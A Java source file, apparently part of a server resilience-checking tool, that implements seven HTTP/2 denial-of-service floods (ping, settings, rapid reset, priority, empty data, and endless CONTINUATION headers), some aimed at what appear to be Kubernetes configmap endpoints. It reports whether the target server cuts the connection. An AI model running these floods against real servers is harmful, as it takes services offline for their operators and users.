package dev.tenure.checks.attack;

import dev.tenure.runtime.io.Background;
import java.io.IOException;

/// Frames of HTTP/2 that cost the server more than the client, as fast as they go.
record Floods(Kind kind) implements Attack {
    private static final int FRAMES_MAX = 2_000_000;
    private static final int END_MILLIS = 2_000;
    private static final int FIRST = 1;
    private static final String MAPS = "/api/v1/namespaces/default/configmaps";
    private static final String WATCH = MAPS + "?watch=1";
    /// Part of a head: `a: b`, a thousand times.
    private static final byte[] LITERALS = new byte[5_000];

    static {
        byte[] one = {0, 1, 'a', 1, 'b'};
        for (int i = 0; i < LITERALS.length; i++) {
            LITERALS[i] = one[i % one.length];
        }
    }

    enum Kind {
        PINGS("pings"),
        SETTINGS("settings"),
        RESETS("requests that are reset at once"),
        PRIORITIES("priorities"),
        EMPTY_DATA("empty pieces of a body"),
        CONTINUATIONS("pieces of a head that never ends"),
        EMPTY_CONTINUATIONS("empty pieces of a head that never ends");

        private final String words;

        Kind(String words) {
            this.words = words;
        }
    }

    @Override
    public String name() {
        return "a flood of " + kind.words;
    }

    @Override
    public Siege begin(Victim victim) throws IOException {
        Streams streams = Streams.open(victim, 65_535);
        first(streams, victim.ann());
        Background.daemon("flood", () -> {
            try {
                for (int i = 0; i < FRAMES_MAX; i++) {
                    one(streams);
                }
            } catch (IOException _) {
                // the server has cut it
            }
        });
        return new Siege() {
            @Override
            public Held held() {
                boolean cut = streams.endsWithin(END_MILLIS);
                return new Held(cut, cut ? "cut" : "goes on");
            }

            @Override
            public void close() {
                streams.close();
            }
        };
    }

    /// What has to be there before the flood.
    private void first(Streams streams, String token) throws IOException {
        switch (kind) {
            case PINGS, SETTINGS, RESETS -> {
                // nothing
            }
            case PRIORITIES -> streams.request("GET", WATCH, token, true);
            case EMPTY_DATA -> streams.request("POST", MAPS, token, false);
            case CONTINUATIONS, EMPTY_CONTINUATIONS -> streams.frame(Streams.HEADERS, 0, FIRST, new byte[0]);
        }
    }

    private void one(Streams streams) throws IOException {
        switch (kind) {
            case PINGS -> streams.frame(Streams.PING, 0, 0, new byte[8]);
            case SETTINGS -> streams.frame(Streams.SETTINGS, 0, 0, new byte[0]);
            case RESETS -> {
                int stream = streams.request("GET", "/healthz", "", true);
                streams.frame(Streams.RESET, 0, stream, new byte[] {0, 0, 0, 8});
            }
            case PRIORITIES -> streams.frame(Streams.PRIORITY, 0, FIRST, new byte[5]);
            case EMPTY_DATA -> streams.frame(Streams.DATA, 0, FIRST, new byte[0]);
            case CONTINUATIONS -> streams.frame(Streams.CONTINUATION, 0, FIRST, LITERALS);
            case EMPTY_CONTINUATIONS -> streams.frame(Streams.CONTINUATION, 0, FIRST, new byte[0]);
        }
    }
}
